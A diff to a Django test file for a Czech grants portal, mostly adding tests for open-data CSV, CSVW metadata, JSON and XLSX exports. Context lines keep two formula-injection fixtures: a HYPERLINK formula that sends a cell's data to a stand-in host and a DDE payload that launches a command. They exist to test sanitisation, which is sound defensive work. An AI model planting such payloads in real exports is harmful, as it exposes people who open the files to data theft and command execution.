@@ -5,12 +5,14 @@ from decimal import Decimal
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from openpyxl import Workbook, load_workbook
 
 from grants import services
 from grants.views import award_records, awards_for
 from portal.exports import spreadsheet_safe
-from tests.factories import make_award, make_programme
+from tests.factories import make_award, make_organisation, make_programme
 
 RECIPIENT = '=HYPERLINK("https://evil.example/?d="&B2;"Spolek")'
 PROJECT = "+cmd|' /C calc'!A0"
@@ -85,3 +87,91 @@ def test_award_cells_written_to_xlsx_are_text_not_formulas(db, tmp_path):
     assert by_value["'" + CONTRACT] == "s"
     assert not any(data_type == "f" for data_type in by_value.values())
     assert by_value[15000] == "n"
+
+
+# --- open data by the Czech conventions (grants/exports.py) -------------------
+
+
+def open_csv(client, table):
+    response = client.get(f"/dotace/data/{table}.csv")
+    assert response.status_code == 200
+    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
+    assert response["Access-Control-Allow-Origin"] == "*"
+    raw = response.content.decode("utf-8")
+    assert not raw.startswith("\ufeff")
+    assert raw.endswith("\r\n") and "\n" not in raw.replace("\r\n", "")
+    return list(csv.reader(io.StringIO(raw, newline="")))  # the default dialect
+
+
+@pytest.fixture
+def awards(db):
+    programme = make_programme(
+        code="5.1", title="Podpora menšin", year=2026, allocation=Decimal("500000")
+    )
+    make_award(
+        programme,
+        organisation=make_organisation(name="Spolek, z. s.", ico="00064581"),
+        requested=Decimal("1234567.50"),
+        awarded=Decimal("1000000"),
+        project_title='Kurz "češtiny", pro dospělé',
+    )
+    make_award(programme, person_name="Jan Novák", person_municipality="Liberec")
+    return programme
+
+
+@pytest.mark.parametrize("table", ["prijemci", "programy"])
+def test_open_csv_follows_rfc_4180_and_its_csvw_names_every_column(
+    client, awards, table
+):
+    header, *rows = open_csv(client, table)
+    metadata = client.get(f"/dotace/data/{table}.csv-metadata.json")
+    assert metadata["Content-Type"].startswith("application/csvm+json")
+    assert metadata["Access-Control-Allow-Origin"] == "*"
+    described = metadata.json()
+    assert described["url"] == f"http://testserver/dotace/data/{table}.csv"
+    columns = described["tableSchema"]["columns"]
+    assert [column["name"] for column in columns] == header
+    assert all(column["titles"] and column["datatype"] for column in columns)
+    assert rows and all(len(row) == len(header) for row in rows)
+
+
+def test_open_awards_keep_ico_as_text_and_numbers_plain(client, awards):
+    header, *rows = open_csv(client, "prijemci")
+    first = dict(zip(header, rows[0], strict=True))
+    assert first["ico"] == "00064581"
+    assert first["pozadovano"] == "1234567.50"
+    assert first["prideleno"] == "1000000.00"
+    assert first["nazev_projektu"] == 'Kurz "češtiny", pro dospělé'
+    assert dict(zip(header, rows[1], strict=True))["prijemce"] == "Jan Novák (Liberec)"
+    [programme] = client.get("/dotace/data/programy.json").json()
+    assert programme["alokace"] == 500000 and programme["rok"] == 2026
+    items = client.get("/dotace/data/prijemci.json").json()
+    assert items[0]["ico"] == "00064581" and items[0]["pozadovano"] == 1234567.5
+
+    response = client.get("/dotace/data/prijemci.xlsx")
+    assert response["Content-Type"].startswith(
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    )
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    titles, first_row = [list(row) for row in sheet.iter_rows(max_row=2)]
+    cells = {title.value: cell for title, cell in zip(titles, first_row, strict=True)}
+    assert cells["IČO"].value == "00064581" and cells["IČO"].data_type == "s"
+    assert cells["Přiděleno (Kč)"].value == 1000000
+    assert cells["Přiděleno (Kč)"].data_type == "n"
+    assert client.get("/dotace/data/nic.csv", follow=True).status_code == 404
+
+
+@pytest.mark.usefixtures("no_page_cache")
+def test_open_tables_cost_the_same_queries_however_many_rows(client, awards):
+    def costs():
+        counts = []
+        for path in ("/dotace/data/prijemci.csv", "/dotace/data/programy.xlsx"):
+            with CaptureQueriesContext(connection) as queries:
+                assert client.get(path).status_code == 200
+            counts.append(len(queries))
+        return counts
+
+    few = costs()
+    for _ in range(5):
+        make_award(make_programme(), organisation=make_organisation())
+    assert costs() == few
